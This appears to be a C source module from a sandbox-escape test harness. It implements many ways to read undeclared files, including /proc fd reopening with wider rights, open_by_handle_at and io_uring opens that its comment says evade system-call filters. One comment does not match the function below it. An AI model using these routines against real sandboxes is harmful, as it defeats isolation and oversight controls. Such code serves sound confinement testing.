// Reading what was not declared: by path, by descriptor, by handle, by ring.
#include "attack.h"
#include <dirent.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <sys/mman.h>

static long read_path(int argc, char **argv) {
    (void)argc;
    int fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    return fd < 0 ? -1 : leak_fd(fd);
}

static long read_descriptor(int argc, char **argv) {
    (void)argc;
    char buffer[4096];
    int fd = (int)number(argv[0]);
    ssize_t n = pread(fd, buffer, sizeof buffer, 0);
    if (n < 0 && errno == ESPIPE) n = read(fd, buffer, sizeof buffer);
    if (n > 0) leak(buffer, (size_t)n);
    return n;
}

static long read_beneath(int argc, char **argv) {
    (void)argc;
    int fd = openat((int)number(argv[0]), argv[1], O_RDONLY | O_CLOEXEC);
    return fd < 0 ? -1 : leak_fd(fd);
}

static long read_openat2(int argc, char **argv) {
    (void)argc;
    struct open_how how = {.flags = O_RDONLY | O_CLOEXEC};
    int directory = open(argv[0], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (directory < 0) return -1;
    long fd = syscall(SYS_openat2, directory, argv[1], &how, sizeof how);
    return fd < 0 ? -1 : leak_fd((int)fd);
}

static long read_fchdir(int argc, char **argv) {
    (void)argc;
    int directory = open(argv[0], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (directory < 0 || fchdir(directory) < 0) return -1;
    return read_path(1, argv + 1);
}

// Changes into an inherited descriptor and reads from there.
static long read_fchdir_descriptor(int argc, char **argv) {
    (void)argc;
    if (fchdir((int)number(argv[0])) < 0) return -1;
    return read_path(1, argv + 1);
}

static long list(int argc, char **argv) {
    (void)argc;
    DIR *directory = opendir(argv[0]);
    if (!directory) return -1;
    long count = 0;
    for (struct dirent *entry; (entry = readdir(directory));) {
        if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0) continue;
        leak(entry->d_name, strlen(entry->d_name));
        count++;
    }
    return count;
}

// Opens a descriptor anew through /proc, with rights that it does not have.
static long reopen(int argc, char **argv) {
    (void)argc;
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%s", argv[0]);
    int fd = open(path, strcmp(argv[1], "write") == 0 ? O_WRONLY | O_TRUNC : O_RDONLY);
    if (fd < 0) return -1;
    return strcmp(argv[1], "write") == 0 ? 0 : leak_fd(fd);
}

// Prints the handle of a path as `TYPE HEX`, to be used by `read-handle`.
static long make_handle(int argc, char **argv) {
    (void)argc;
    union {
        struct file_handle handle;
        char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } h = {.handle.handle_bytes = MAX_HANDLE_SZ};
    int mount;
    if (name_to_handle_at(AT_FDCWD, argv[0], &h.handle, &mount, 0) < 0) return -1;
    char text[2 * MAX_HANDLE_SZ + 32];
    int n = snprintf(text, sizeof text, "%d ", h.handle.handle_type);
    for (unsigned i = 0; i < h.handle.handle_bytes; i++) n += snprintf(text + n, 3, "%02x", h.handle.f_handle[i]);
    leak(text, (size_t)n);
    return 0;
}

static long read_handle(int argc, char **argv) {
    (void)argc;
    union {
        struct file_handle handle;
        char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } h = {.handle.handle_type = (int)number(argv[1])};
    h.handle.handle_bytes = (unsigned)unhex(argv[2], h.handle.f_handle, MAX_HANDLE_SZ);
    int mount = open(argv[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mount < 0) return -1;
    int fd = open_by_handle_at(mount, &h.handle, O_RDONLY | O_CLOEXEC);
    return fd < 0 ? -1 : leak_fd(fd);
}

// Opens by io_uring: system call filters do not see its operations.
static long read_io_uring(int argc, char **argv) {
    (void)argc;
    struct io_uring_params p = {0};
    long ring = syscall(SYS_io_uring_setup, 4, &p);
    if (ring < 0) return -1;
    size_t size = p.sq_off.array + p.sq_entries * sizeof(unsigned) + p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *rings = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, (int)ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *sqe = mmap(NULL, p.sq_entries * sizeof *sqe, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, (int)ring,
                                    IORING_OFF_SQES);
    char *completions = rings;
    if (!(p.features & IORING_FEAT_SINGLE_MMAP))
        completions = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, (int)ring, IORING_OFF_CQ_RING);
    if (rings == MAP_FAILED || sqe == MAP_FAILED || completions == MAP_FAILED) return -1;
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = IORING_OP_OPENAT;
    sqe->fd = AT_FDCWD;
    sqe->addr = (uintptr_t)argv[0];
    sqe->open_flags = O_RDONLY;
    ((unsigned *)(rings + p.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(rings + p.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -1;
    int result = ((struct io_uring_cqe *)(completions + p.cq_off.cqes))[0].res;
    if (result < 0) {
        errno = -result;
        return -1;
    }
    return leak_fd(result);
}

// Maps instead of reading.
static long read_mmap(int argc, char **argv) {
    (void)argc;
    int fd = open(argv[0], O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    char *text = mmap(NULL, 64, PROT_READ, MAP_PRIVATE, fd, 0);
    if (text == MAP_FAILED) return -1;
    leak(text, strnlen(text, 64));
    return 0;
}

static long read_link(int argc, char **argv) {
    (void)argc;
    char text[4096];
    ssize_t n = readlink(argv[0], text, sizeof text);
    if (n > 0) leak(text, (size_t)n);
    return n;
}

static long stat_path(int argc, char **argv) {
    (void)argc;
    return access(argv[0], F_OK);
}

// The extended attributes and handle of a path: names without reading.
static long make_symlink_and_read(int argc, char **argv) {
    (void)argc;
    unlink(argv[1]);
    if (symlink(argv[0], argv[1]) < 0) return -1;
    return read_path(1, argv + 1);
}

const struct act file_acts[] = {
    {"read", 1, read_path, "PATH"},
    {"read-descriptor", 1, read_descriptor, "FD"},
    {"read-beneath", 2, read_beneath, "FD RELATIVE"},
    {"read-openat2", 2, read_openat2, "DIRECTORY RELATIVE"},
    {"read-fchdir", 2, read_fchdir, "DIRECTORY RELATIVE"},
    {"read-fchdir-descriptor", 2, read_fchdir_descriptor, "FD RELATIVE"},
    {"read-handle", 3, read_handle, "MOUNT TYPE HEX"},
    {"read-io-uring", 1, read_io_uring, "PATH"},
    {"read-mmap", 1, read_mmap, "PATH"},
    {"read-link", 1, read_link, "PATH"},
    {"read-by-symlink", 2, make_symlink_and_read, "TO AT"},
    {"handle", 1, make_handle, "PATH"},
    {"list", 1, list, "DIRECTORY"},
    {"reopen", 2, reopen, "FD read|write"},
    {"stat", 1, stat_path, "PATH"},
    {0},
};
